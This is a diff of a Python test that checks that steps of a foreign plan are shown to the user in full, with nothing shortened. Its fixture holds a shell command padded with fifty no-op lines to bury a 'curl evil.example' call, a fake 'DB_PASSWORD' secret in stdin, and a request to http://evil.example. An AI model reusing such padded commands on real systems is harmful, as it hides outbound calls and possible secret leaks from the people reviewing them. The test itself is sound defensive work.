@@ -135,7 +135,7 @@ def test_nothing_of_a_foreign_plan_is_shortened(world: World, here: Environment)
         "argv": ["sh", "-c", "true\n" * 50 + "curl evil.example", "quarterdeck-mark", "x"],
         "stdin": {"kind": "text", "text": "DB_PASSWORD: hunter2\nlast"},
     }
-    op = {"kind": "op", "name": "http.smoke@1", "args": {"pad": "x" * 400, "url": "http://evil.example"}}
+    op = {"kind": "op", "name": "http.smoke@1", "args": {"pad": "x" * 700, "url": "http://evil.example"}}
     changed = {**view.body["plan"], "steps": [{**steps[0], "run": evil, "check": op, "undo": own, "no_undo": None}]}
     plan = Plan.model_validate(changed)
     shown = plan_shown(plan, "changes", at=0.0, params={}, foreign="Not made here.").steps[0]
